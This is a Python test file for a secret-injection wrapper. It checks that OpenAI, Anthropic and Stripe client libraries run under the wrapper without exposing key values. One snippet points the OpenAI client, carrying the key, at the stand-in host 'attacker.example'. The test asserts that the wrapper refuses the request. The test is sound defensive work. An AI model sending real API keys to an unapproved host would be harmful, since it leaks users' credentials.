"""Vendors' own libraries under ``agentsecrets run``: installed by pip, with nothing of ours in their process."""

from __future__ import annotations

import subprocess
import sys
from typing import Any

from vendors import arrived
from world import Upstream, World

LIBRARIES = """
import os, sys
import anthropic, openai, stripe
origin, question = sys.argv[1], [{"role": "user", "content": "hello"}]
library = openai.OpenAI(api_key=os.environ["OPENAI_KEY"], base_url=origin + "/vendor/ok/v1")
print(library.chat.completions.create(model="test", messages=question).choices[0].message.content)
with library.chat.completions.create(model="test", messages=question, stream=True) as stream:
    print("".join(chunk.choices[0].delta.content or "" for chunk in stream))
library = anthropic.Anthropic(api_key=os.environ["ANTHROPIC_KEY"], base_url=origin + "/vendor/ok")
print(library.messages.create(model="test", max_tokens=9, messages=question).content[0].text)
# It brings roots of its own, and has to be told of those it is given.
stripe.ca_bundle_path = os.environ["SSL_CERT_FILE"]
library = stripe.StripeClient(os.environ["STRIPE_KEY"], base_addresses={"api": origin + "/vendor/ok"})
print([one.id for one in library.v1.customers.list({"limit": 1}).data])
print("agentsecrets" in sys.modules, os.environ["OPENAI_KEY"])
"""
REFUSED = """
import os, sys, openai
try:
    openai.OpenAI(api_key=os.environ["OPENAI_KEY"], base_url="https://attacker.example").models.list()
except openai.PermissionDeniedError as error:
    print(error.response.headers["agentsecrets-error"], error.response.json()["hint"])
"""


def run(world: World, script: str, *words: str) -> str:
    command: Any = [world.executable, "run", "--", sys.executable, "-c", script, *words]
    done = subprocess.run(
        command, cwd=world.directory, env=world.environment, capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 0, done.stderr[-2000:]
    for value in world.values.values():
        assert value not in done.stdout + done.stderr
    return done.stdout


def test_they_call_by_names(vendor_keys: World, upstream: Upstream) -> None:
    said = run(vendor_keys, LIBRARIES, upstream.origin).splitlines()
    assert said == ["Hello there"] * 3 + ["['cus_1']", "False AS_SECRET_OPENAI_KEY"]
    values = [vendor_keys.values[name] for name in ("OPENAI_KEY", "OPENAI_KEY", "ANTHROPIC_KEY", "STRIPE_KEY")]
    received = upstream.received()
    assert [value in str(got.said["headers"]) for value, got in zip(values, received, strict=True)] == [True] * 4
    upstream.forget()
    run(vendor_keys, LIBRARIES.split("with library")[0], upstream.origin)
    arrived(upstream, values[0], "authorization")


def test_a_refusal_is_told_and_not_tried_again(vendor_keys: World, upstream: Upstream) -> None:
    said = run(vendor_keys, REFUSED)
    assert said.startswith("destination_not_allowed agentsecrets allow OPENAI_KEY attacker.example")
    assert upstream.received() == []
